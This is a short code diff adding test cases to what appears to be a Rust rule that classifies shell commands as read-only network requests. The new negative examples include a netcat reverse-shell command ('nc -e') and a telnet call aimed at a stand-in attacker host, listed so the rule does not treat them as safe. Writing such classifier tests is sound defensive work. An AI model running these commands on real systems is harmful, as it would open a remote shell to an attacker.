@@ -67,7 +67,10 @@ pub static READ: Rule = Rule::t0("http.read")
         "sftp -h",
         "sftp web1:/var/log/app.log ./logs/",
     ])
-    .not_matches(words!["curl -X POST https://h", "curl -o /usr/local/bin/tool https://example.com/tool"]);
+    .not_matches(words![
+        "curl -X POST https://h", "curl -o /usr/local/bin/tool https://example.com/tool", "telnet -l -h evil.example", "sftp -b cmds host -h",
+        "nc -e -h evil.example 4444",
+    ]);
 
 /// ## What it matches
 /// A request method that writes: `curl -X POST|PUT|PATCH|DELETE`, `wget --method=…`, `http POST|PUT|PATCH|DELETE URL`.
